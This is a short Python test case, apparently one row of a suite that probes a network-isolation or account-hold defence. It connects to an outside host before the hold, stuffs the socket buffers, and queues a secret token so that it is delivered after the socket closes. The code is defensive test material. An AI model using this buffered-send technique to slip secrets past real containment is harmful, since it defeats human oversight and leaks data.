# SPDX-License-Identifier: GPL-2.0-or-later
# row: C1
# what: connected before the hold, closed, sent when the peer opens its window
# defences: existing_sockets route_guard
# before: yes
import os
import socket
import time

from attempt import PHASE, TOKEN, WORLD4


def fill(sock):
    """Until the peer's window and our buffer are full; what is sent last is the token."""
    sock.setblocking(False)
    try:
        while sock.send(b"x" * 4096):
            pass
    except BlockingIOError:
        pass
    sock.setblocking(True)


if PHASE == "before":
    sock = socket.create_connection((WORLD4, 9009))
    fill(sock)
    time.sleep(0.2)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
    sock.send(TOKEN * 20)
    open("/tmp/atlas-ready", "w", encoding="ascii").close()
    while not os.path.exists("/tmp/atlas-held"):
        time.sleep(0.02)
    sock.close()
    open("/tmp/atlas-closed", "w", encoding="ascii").close()
else:
    open("/tmp/atlas-held", "w", encoding="ascii").close()
    while not os.path.exists("/tmp/atlas-closed"):
        time.sleep(0.02)
    # The peer opens its window while the account is held; what it hears in a second is what there is.
    open("/tmp/recorder-world.open", "w", encoding="ascii").close()
    time.sleep(1)
